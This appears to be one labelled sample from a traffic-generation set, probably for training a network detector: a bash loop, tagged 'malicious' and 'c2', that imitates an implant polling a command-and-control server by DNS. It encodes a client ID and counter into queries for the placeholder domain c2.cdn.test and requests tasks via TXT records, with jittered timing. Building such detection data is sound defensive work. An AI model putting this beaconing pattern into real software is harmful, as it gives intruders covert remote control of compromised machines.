# label: malicious
# class: c2
# twin: dns_poll
# tools: bind9-dnsutils dnsmasq-base iodine
# about: An implant asks for its task by DNS at an interval, its name and a counter in the question.
# command: dig of encoded names, TXT or A
# params: txt net=office EVERY=0.45 SPREAD=0.12 N=30 KIND=TXT
# params: a net=wan EVERY=0.2 SPREAD=0.35 N=42 KIND=A
for ((i = 0; i < N; i++)); do
	id=$(printf '%s-%04x' "$CLIENT" $i | od -An -tx1 | tr -d ' \n')
	dig @infra +tries=2 +time=1 "$([ $((i % 6)) = 0 ] && [ "$KIND" = TXT ] && echo task || echo "$id").c2.cdn.test" "$KIND"
	pause "$EVERY" "$(awk -v e="$EVERY" -v s="$SPREAD" 'BEGIN { print e + s }')"
done
